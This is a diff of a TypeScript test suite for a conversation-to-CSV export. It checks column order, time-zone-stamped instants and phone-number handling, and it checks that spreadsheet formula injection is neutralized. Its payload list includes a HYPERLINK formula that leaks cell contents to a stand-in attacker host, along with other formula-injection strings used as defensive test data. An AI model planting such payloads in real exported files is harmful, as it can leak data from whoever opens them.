@@ -14,6 +14,8 @@ import { FORMULA_START, readCsv } from './csv-file.js';
 /** Every column that has text, in the order the table would show them. */
 const TEXT_COLUMNS = [...COLUMNS.values()].filter((column) => column.text).map((column) => column.id);
 const ALL_COLUMNS: ColumnId[] = ['copy', 'play', ...TEXT_COLUMNS];
+/** Columns the file writes with the table's own text (labels, names); the others carry the data itself. */
+const LABELLED = ['agent', 'callerName', 'agentNumber', 'direction', 'status', 'summary', 'type', 'customer', 'priority', 'assignee', 'tags'] as const;
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -24,8 +26,8 @@ const PAYLOADS = [
   '\r=1+1',
 ];
 
-/** A cell as the file holds it: text a spreadsheet could run gets a leading quote (phone numbers' `+` too). */
-const asCell = (text: string | undefined = '') => (FORMULA_START.test(text) ? `'${text}` : text);
+/** A cell as the file holds it: text a spreadsheet could run gets a leading quote, unless it is only an E.164 number. */
+const asCell = (text: string | undefined = '') => (FORMULA_START.test(text) && !/^\+[0-9]{7,15}$/.test(text) ? `'${text}` : text);
 
 /** A conversation whose every text field carries `payload`. */
 function hostile(index: number, payload: string): Conversation {
@@ -53,45 +55,44 @@ function hostile(index: number, payload: string): Conversation {
 }
 
 describe('exportCsv file contents', () => {
-  it('starts with a UTF-8 BOM and a header of the visible columns in order, then id, link and ISO time', async () => {
+  it('starts with a UTF-8 BOM, then id and link, the chosen columns in order, participants, and the instants', async () => {
     const source = createMemorySource(makeConversations(3));
-    const file = await exportCsv(source, {}, { columns: ['summary', 'copy', 'callerId', 'duration', 'play', 'date', 'time'] });
+    const file = await exportCsv(source, {}, { columns: ['summary', 'copy', 'time', 'callerId', 'duration', 'play', 'date'], timeZone: 'UTC' });
 
     const { bom, text, header } = await readCsv(file);
     expect(bom).to.equal(true);
     expect(file.type).to.equal('text/csv;charset=utf-8');
     expect(header).to.deep.equal([
-      'Summary',
-      'Caller ID',
-      'Duration',
-      'Duration (seconds)',
-      'Recording URL',
-      'Date',
-      'Time',
       'Conversation ID',
       'Detail link',
-      'created_at',
+      'Summary',
+      'Caller ID',
+      'Duration (seconds)',
+      'Recording URL',
+      'Other participants',
+      'Created (UTC)',
     ]);
     expect(text.split('\r\n')).to.have.length(5, 'header, 3 rows, and the final CRLF');
     expect(text.endsWith('\r\n')).to.equal(true);
   });
 
-  it('writes the same text the table shows, in the table’s time zone and locale, with machine-readable extras', async () => {
+  it('writes the data: labels as the table shows them, the real caller id, seconds, participants, instants with the zone offset', async () => {
     const conversations = makeConversations(30, (index) => ({
       recordingUrl: index % 2 ? `/api/recordings/conv_${index}.wav` : undefined,
+      callerId: index % 3 ? `+1646555${String(index).padStart(4, '0')}` : `guest_${index}`,
       tags: ['vip', `t${index}`],
       assignee: { id: `u${index}`, name: `Ünïcødé ${index}` },
+      extraParticipants: index % 4 ? undefined : [`cc${index}@example.com`, 'boss@example.com'],
       unreadCount: index * 1000,
       priority: 'high',
       lastActivityAt: '2026-11-01T23:30:00Z',
     }));
     const byId = new Map(conversations.map((c) => [c.id, c]));
-    const context = { strings: DEFAULT_STRINGS, timeZone: 'Asia/Tokyo', locale: 'de-DE' };
+    const context = { strings: DEFAULT_STRINGS };
 
     const file = await exportCsv(createMemorySource(conversations), {}, {
       columns: ALL_COLUMNS,
-      timeZone: context.timeZone,
-      locale: context.locale,
+      timeZone: 'Asia/Tokyo',
       detailUrlTemplate: '/inbox/{id}',
       pageSize: 7,
     });
@@ -100,16 +101,21 @@ describe('exportCsv file contents', () => {
     expect(rows).to.have.length(30);
     for (const row of rows) {
       const conversation = byId.get(row['Conversation ID']!)!;
-      for (const id of TEXT_COLUMNS) {
-        expect(row[DEFAULT_STRINGS.columns[id]!], id).to.equal(asCell(COLUMNS.get(id)!.text!(conversation, context)));
+      for (const id of LABELLED) {
+        expect(row[DEFAULT_STRINGS.columns[id]!], id).to.equal(COLUMNS.get(id)!.text!(conversation, context) ?? '');
       }
+      expect(row['Caller ID'], 'the real caller id, guests too, E.164 without a quote').to.equal(conversation.callerId);
+      expect(row.Unread).to.equal(String(conversation.unreadCount));
       expect(row['Duration (seconds)']).to.equal(String(conversation.durationSeconds));
-      expect(row.created_at).to.equal(new Date(conversation.createdAt!).toISOString());
+      expect(row['Other participants']).to.equal(conversation.extraParticipants?.join('; ') ?? '');
+      expect(new Date(row['Created (Asia/Tokyo)']!).toISOString()).to.equal(new Date(conversation.createdAt!).toISOString());
+      expect(row['Created (Asia/Tokyo)']).to.match(/\+09:00$/);
       expect(row['Detail link']).to.equal(new URL(`/inbox/${encodeURIComponent(conversation.id)}`, location.href).href);
       expect(row['Recording URL']).to.equal(conversation.recordingUrl ? new URL(conversation.recordingUrl, location.href).href : '');
     }
     // The time zone really applies: 23:30 UTC is the next morning in Tokyo.
-    expect(rows[0]!['Last Activity']).to.equal('2. Nov. 2026, 8:30');
+    expect(rows[0]!['Last activity (Asia/Tokyo)']).to.equal('2026-11-02T08:30:00+09:00');
+    expect(rows.some((row) => row['Caller ID']!.startsWith('guest_'))).to.equal(true);
   });
 
   it('leaves missing values empty', async () => {
@@ -139,9 +145,10 @@ describe('exportCsv file contents', () => {
       }
       // The id comes back whole behind its quote, so it still identifies the row.
       const conversation = byId.get(row['Conversation ID']!.slice(1))!;
-      for (const id of TEXT_COLUMNS) {
+      for (const id of LABELLED) {
         expect(row[DEFAULT_STRINGS.columns[id]!], id).to.equal(asCell(COLUMNS.get(id)!.text!(conversation, context)));
       }
+      expect(row['Caller ID']).to.equal(asCell(conversation.callerId));
     }
     // Every column that can carry outside text had a payload to neutralize.
     const outsideText = ['agent', 'callerId', 'callerName', 'agentNumber', 'direction', 'status', 'summary', 'type', 'customer', 'priority', 'assignee', 'tags'];
